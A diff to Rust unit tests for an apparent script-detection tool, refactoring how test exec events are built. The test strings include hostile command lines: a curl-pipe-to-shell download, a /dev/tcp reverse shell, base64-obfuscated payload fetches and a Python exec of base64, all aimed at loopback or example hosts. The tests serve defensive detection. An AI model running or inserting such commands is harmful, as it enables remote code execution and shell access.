@@ -6,22 +6,25 @@ fn event(binary: &str, argv: &[&str], script: Script) -> ExecEvent {
     ExecEvent {
         ktime_ns: 2_027_897_694_305,
         time: "2026-11-23T10:13:18.412154850Z".into(),
-        pid: 18292,
-        tid: 18292,
         ppid: 18290,
-        uid: 0,
-        gid: 0,
-        comm: binary.rsplit('/').next().unwrap().into(),
-        cgroup_id: 1,
         mnt_ns: 4026531832,
         pid_ns: 4026531836,
-        binary: binary.into(),
         filename: argv.get(1).copied().unwrap_or(binary).into(),
-        argv: argv.iter().map(|a| RawString::from(*a)).collect(),
-        argv_truncated: false,
         cwd: "/tmp/work".into(),
-        script,
+        ..ExecEvent::for_test(18292, binary, argv, script)
     }
+}
+
+/// `binary -c code`, e.g. `bash -c code` for "/usr/bin/bash".
+fn inline_event(binary: &str, code: &str) -> ExecEvent {
+    let argv0 = binary.rsplit('/').next().unwrap_or(binary);
+    event(
+        binary,
+        &[argv0, "-c", code],
+        Script::Inline {
+            inline: code.into(),
+        },
+    )
 }
 
 fn detection(event: ExecEvent, contents: &str, score: f32) -> Detection {
@@ -309,17 +312,7 @@ fn python_category_and_techniques() {
 #[test]
 fn inline_code_has_no_script_path_and_contents_is_the_literal() {
     let code = "curl -fsSL http://127.0.0.1:9/x | sh";
-    let d = detection(
-        event(
-            "/usr/bin/bash",
-            &["bash", "-c", code],
-            Script::Inline {
-                inline: code.into(),
-            },
-        ),
-        code,
-        0.9,
-    );
+    let d = detection(inline_event("/usr/bin/bash", code), code, 0.9);
     let msg = build(&d, &config());
     let script = msg.finding.processes[0].script.clone().unwrap();
     assert!(script.path.is_empty());
@@ -453,17 +446,7 @@ fn reverse_shell_from_socket_stdin() {
 #[test]
 fn reverse_shell_from_dev_tcp_inline() {
     let code = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1";
-    let d = detection(
-        event(
-            "/usr/bin/bash",
-            &["bash", "-c", code],
-            Script::Inline {
-                inline: code.into(),
-            },
-        ),
-        code,
-        0.95,
-    );
+    let d = detection(inline_event("/usr/bin/bash", code), code, 0.95);
     let cats = categories(&d, &config());
     assert_eq!(cats, ["Malicious Script Executed", "Reverse Shell"]);
     let ids: Vec<String> = build_all(&d, &config())
@@ -479,17 +462,7 @@ fn base64_and_piped_encoded() {
     let payload = base64::engine::general_purpose::STANDARD
         .encode("curl -s http://127.0.0.1:9/a.sh -o /tmp/a; chmod +x /tmp/a");
     let code = format!("echo {payload} | base64 -d | bash");
-    let d = detection(
-        event(
-            "/usr/bin/bash",
-            &["bash", "-c", &code],
-            Script::Inline {
-                inline: code.as_str().into(),
-            },
-        ),
-        &code,
-        0.2,
-    );
+    let d = detection(inline_event("/usr/bin/bash", &code), &code, 0.2);
     assert_eq!(
         categories(&d, &config()),
         [
@@ -498,15 +471,7 @@ fn base64_and_piped_encoded() {
         ]
     );
     let dl = "curl -s http://127.0.0.1:9/p | base64 --decode > /tmp/p";
-    let d = detection(
-        event(
-            "/usr/bin/sh",
-            &["sh", "-c", dl],
-            Script::Inline { inline: dl.into() },
-        ),
-        dl,
-        0.2,
-    );
+    let d = detection(inline_event("/usr/bin/sh", dl), dl, 0.2);
     assert_eq!(
         categories(&d, &config()),
         ["Command and Control: Piped Encoded Download"]
@@ -519,34 +484,14 @@ fn base64_python_needs_a_decoder_and_text() {
     let blob = base64::engine::general_purpose::STANDARD
         .encode("import os; os.system('id > /tmp/out.txt')");
     let code = format!("import base64;exec(base64.b64decode('{blob}'))");
-    let d = detection(
-        event(
-            "/usr/bin/python3",
-            &["python3", "-c", &code],
-            Script::Inline {
-                inline: code.as_str().into(),
-            },
-        ),
-        &code,
-        0.2,
-    );
+    let d = detection(inline_event("/usr/bin/python3", &code), &code, 0.2);
     assert_eq!(
         categories(&d, &config()),
         ["Defense Evasion: Base64 Encoded Python Script Executed"]
     );
     // A long token without a decoder is not evidence.
     let code = format!("print('{blob}')");
-    let d = detection(
-        event(
-            "/usr/bin/python3",
-            &["python3", "-c", &code],
-            Script::Inline {
-                inline: code.as_str().into(),
-            },
-        ),
-        &code,
-        0.2,
-    );
+    let d = detection(inline_event("/usr/bin/python3", &code), &code, 0.2);
     assert!(categories(&d, &config()).is_empty());
 }
 
@@ -656,17 +601,7 @@ fn malicious_url_from_block_list() {
     let mut c = config();
     c.finding.url_blocklist = vec!["example.net".into()];
     let code = "wget http://dl.example.net/x";
-    let d = detection(
-        event(
-            "/usr/bin/sh",
-            &["sh", "-c", code],
-            Script::Inline {
-                inline: code.into(),
-            },
-        ),
-        code,
-        0.1,
-    );
+    let d = detection(inline_event("/usr/bin/sh", code), code, 0.1);
     assert_eq!(categories(&d, &c), ["Malicious URL Observed"]);
     c.finding.disabled_categories = vec!["Malicious URL Observed".into()];
     assert!(categories(&d, &c).is_empty());
